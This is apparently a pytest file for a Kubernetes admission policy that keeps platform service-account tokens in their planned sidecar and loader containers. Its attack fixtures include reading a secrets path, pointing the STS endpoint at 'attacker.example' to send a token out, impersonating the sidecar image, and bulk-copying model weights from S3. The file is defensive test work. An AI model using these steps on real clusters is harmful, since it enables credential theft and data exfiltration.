"""The token-audience admission policy, evaluated as the API server would (tests/charts/admission_cel.py, as for
the host-path policy): a pod creator in the namespace cannot project a token of the platform's audiences into
anything but the planned container, so cannot become the capture writer or the weights loader. Each attack is a pod
the kubelet would give a token the roles trust (service account and audience); before this policy, every one was
admitted."""

from __future__ import annotations

import copy
from collections.abc import Callable
from typing import Any

import cdk8s
import pytest

from hyperpod_inference_iac.charts.pod_security import HOST_PATH_POLICY
from hyperpod_inference_iac.charts.render import render_workloads
from hyperpod_inference_iac.charts.token_policy import (
    HOLDERS_ANNOTATION,
    TOKEN_AUDIENCE_POLICY,
    TokenHolder,
    holders_of_annotation,
    token_audience_policy,
)
from tests.charts import samples
from tests.charts.test_admission_policy import Policy, _objects, _plan

Pod = dict[str, Any]
SIDECAR_AUDIENCE = "hyperpod-inference-iac/capture-sidecar"


class MatchedPolicy(Policy):
    """:class:`Policy` with its ``matchConditions``: a pod none of them matches is not evaluated (admitted)."""

    prefix = TOKEN_AUDIENCE_POLICY


@pytest.fixture(scope="module")
def rendered() -> dict[str, Any]:
    return rendered_policy_and_pods()


def rendered_policy_and_pods() -> dict[str, Any]:
    """The token policy and its binding as the platform renders them, and the planned pods (the portable server's
    with its capture sidecar's token, the operator's with the loader's)."""
    plan = _plan()
    result = render_workloads(cdk8s.Testing.app(), plan, samples.VALUES)
    objects = {(o["kind"], o["metadata"]["name"]): o for o in cdk8s.Testing.synth(result.namespace)}
    (chart_id,) = [c for c in result.charts if c.startswith("portable-")]
    (deployment,) = [m for m in cdk8s.Testing.synth(result.charts[chart_id]) if m["kind"] == "Deployment"]
    model = plan.models[0].workload
    kubernetes = model.manifest(namespace=samples.NAMESPACE)["spec"]["kubernetes"]
    operator_pod = {"spec": {"serviceAccountName": kubernetes["serviceAccountName"],
                             "containers": [{"name": "worker", "image": "vllm/vllm-openai:v0.11.0"}],
                             "initContainers": kubernetes["initContainers"], "volumes": kubernetes["volumes"]}}
    return {"policy": objects[("ValidatingAdmissionPolicy", TOKEN_AUDIENCE_POLICY)],
            "binding": objects[("ValidatingAdmissionPolicyBinding", f"{TOKEN_AUDIENCE_POLICY}-deny")],
            "portable": {"metadata": {"name": "p"}, "spec": deployment["spec"]["template"]["spec"]},
            "operator": operator_pod}


@pytest.fixture(scope="module")
def policy(rendered: dict[str, Any]) -> MatchedPolicy:
    return MatchedPolicy(rendered["policy"])


def _container(pod: Pod, name: str) -> dict[str, Any]:
    return next(c for c in [*pod["spec"]["containers"], *pod["spec"].get("initContainers", [])] if c["name"] == name)


def test_the_planned_pods_and_pods_without_a_platform_token_pass(policy: MatchedPolicy,
                                                                 rendered: dict[str, Any]) -> None:
    assert policy.failures(rendered["portable"]) == []
    assert policy.failures(rendered["operator"]) == []
    sts_token = {"name": "t", "projected": {"sources": [{"serviceAccountToken": {"audience": "sts.amazonaws.com",
                                                                                 "path": "token"}}]}}
    assert policy.failures({"spec": {"containers": [{"name": "x", "image": "busybox:1.37"}],
                                     "volumes": [sts_token]}}) == []


def test_the_policy_denies_in_every_namespace(rendered: dict[str, Any]) -> None:
    assert rendered["binding"]["spec"] == {"policyName": TOKEN_AUDIENCE_POLICY, "validationActions": ["Deny"]}
    assert rendered["policy"]["spec"]["failurePolicy"] == "Fail"


def _impostor_sidecar(pod: Pod) -> None:
    """The portable server's service account, a token of the capture-sidecar audience, an image of the attacker's
    named like the sidecar: the capture writer's role, to forge records under any caller id."""
    _container(pod, "capture-sidecar")["image"] = "attacker/forger:1"


def _sidecar_own_command(pod: Pod) -> None:
    _container(pod, "capture-sidecar")["command"] = ["python", "-c", "print(open('/var/run/secrets/x').read())"]


def _sidecar_token_sent_away(pod: Pod) -> None:
    _container(pod, "capture-sidecar")["env"].append({"name": "AWS_ENDPOINT_URL_STS",
                                                      "value": "https://attacker.example"})


def _model_server_mounts_the_sidecar_token(pod: Pod) -> None:
    sidecar = _container(pod, "capture-sidecar")
    (mount,) = [m for m in sidecar["volumeMounts"] if m["name"].startswith("aws-token-")]
    _container(pod, "model-server")["volumeMounts"].append(dict(mount))


def _loader_look_alike_reads_the_weights(pod: Pod) -> None:
    _container(pod, "nvme-weights-loader")["command"] = ["/bin/bash", "-c", "aws s3 cp --recursive s3://w/ /tmp"]


def _under_another_service_account(pod: Pod) -> None:
    pod["spec"]["serviceAccountName"] = "other"


def _token_in_a_pod_of_its_own(pod: Pod) -> None:
    """A bare pod: the sidecar's token volume, one container of the attacker's."""
    (volume,) = [v for v in pod["spec"]["volumes"]
                 if any(s.get("serviceAccountToken", {}).get("audience") == SIDECAR_AUDIENCE
                        for s in v.get("projected", {}).get("sources", []))]
    pod["spec"] = {"serviceAccountName": pod["spec"]["serviceAccountName"], "volumes": [volume],
                   "containers": [{"name": "capture-sidecar", "image": "busybox:1.37",
                                   "volumeMounts": [{"name": volume["name"], "mountPath": "/t"}]}]}


@pytest.mark.parametrize("attack", [
    _impostor_sidecar, _sidecar_own_command, _sidecar_token_sent_away, _model_server_mounts_the_sidecar_token,
    _loader_look_alike_reads_the_weights, _under_another_service_account, _token_in_a_pod_of_its_own,
], ids=lambda attack: attack.__name__.strip("_"))
def test_a_pod_creator_cannot_borrow_a_platform_identity(policy: MatchedPolicy, rendered: dict[str, Any],
                                                        attack: Callable[[Pod], None]) -> None:
    pod = copy.deepcopy(rendered["portable"])
    attack(pod)
    (failed,) = policy.failures(pod)
    assert failed.startswith("a token of a platform audience"), failed


def test_the_planned_pod_in_another_namespace_is_refused(policy: MatchedPolicy, rendered: dict[str, Any]) -> None:
    assert len(policy.failures(rendered["portable"], namespace="tenant-b")) == 1
    assert len(policy.failures(rendered["operator"], namespace="tenant-b")) == 1


def test_both_policies_keep_to_what_the_api_server_s_typed_cel_compiles(rendered: dict[str, Any]) -> None:
    """The tests' CEL evaluators are untyped; the API server type-checks each expression against the Pod's schema
    and rejects (and with failurePolicy Fail, denies every pod on) an object compared with a map literal, an
    iteration over an object's fields, or a list of containers concatenated with one of ephemeral containers (another
    type)."""
    host_path = _objects(_plan())[("ValidatingAdmissionPolicy", HOST_PATH_POLICY)]
    for policy in (host_path, rendered["policy"]):
        spec = policy["spec"]
        expressions = [v["expression"] for v in spec["variables"] + spec["validations"]
                       + spec.get("matchConditions", [])]
        for expression in expressions:
            assert "== {" not in expression and "c.all(k," not in expression
            assert "containers + variables.ephemeral" not in expression


def test_the_policy_names_its_holders_from_the_same_source_as_its_expression(rendered: dict[str, Any]) -> None:
    """The holders annotation (read by ``make review``) is what the expression is made of: the policy the library
    makes of the annotation's holders is the rendered policy, annotation included; each holder names its workload."""
    policy = rendered["policy"]
    holders = holders_of_annotation(policy["metadata"]["annotations"][HOLDERS_ANNOTATION])
    assert token_audience_policy(holders)[0] == {k: policy[k] for k in ("apiVersion", "kind", "metadata", "spec")}
    assert {(h.container["name"], h.audience) for h in holders} >= {
        ("capture-sidecar", SIDECAR_AUDIENCE), (_container(rendered["operator"], "nvme-weights-loader")["name"],
                                                "hyperpod-inference-iac/weights-loader")}
    assert all(h.workload for h in holders)
    assert token_audience_policy(list(reversed(holders))) == token_audience_policy(holders)


def test_a_container_planned_twice_is_one_term() -> None:
    sidecar = {"name": "capture-sidecar", "image": "example.invalid/sidecar:1"}
    one = TokenHolder.of(namespace="n", service_account="s", audience=SIDECAR_AUDIENCE, container=sidecar,
                         workload="a")
    two = TokenHolder.of(namespace="n", service_account="s", audience=SIDECAR_AUDIENCE, container=sidecar,
                         workload="b")
    expression = token_audience_policy([one, two])[0]["spec"]["validations"][0]["expression"]
    assert expression == token_audience_policy([one])[0]["spec"]["validations"][0]["expression"]
    assert [h.workload for h in holders_of_annotation(
        token_audience_policy([two, one])[0]["metadata"]["annotations"][HOLDERS_ANNOTATION])] == ["a", "b"]
